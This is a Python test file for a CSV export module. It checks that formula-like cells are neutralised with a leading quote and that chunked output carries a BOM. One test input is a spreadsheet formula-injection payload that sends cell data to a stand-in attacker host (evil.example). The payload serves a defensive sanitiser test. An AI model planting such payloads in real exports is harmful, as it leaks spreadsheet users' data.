import csv
import io

from gaoxin.core.csvexport import BOM, csv_chunks, safe_cell


def test_formula_like_cells_are_neutralised_and_others_kept():
    assert safe_cell('=HYPERLINK("http://evil.example/?"&A1,"click")') == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
    assert [safe_cell(v) for v in ("+1", "-2", "@SUM(A1)", "\tx", "\rx", "＝1")] == [
        "'+1", "'-2", "'@SUM(A1)", "'\tx", "'\rx", "'＝1"]
    assert [safe_cell(v) for v in ("张三", "138****1234", 42, None, "")] == ["张三", "138****1234", 42, None, ""]


def test_chunks_make_one_csv_with_a_bom():
    rows = [[i, f"=cmd{i}"] for i in range(2500)]
    chunks = list(csv_chunks(["编号", "地址"], rows, chunk_rows=1000))
    assert len(chunks) == 3
    text = "".join(chunks)
    assert text.startswith(BOM)
    parsed = list(csv.reader(io.StringIO(text.removeprefix(BOM))))
    assert parsed[0] == ["编号", "地址"]
    assert parsed[1] == ["0", "'=cmd0"]
    assert len(parsed) == 2501
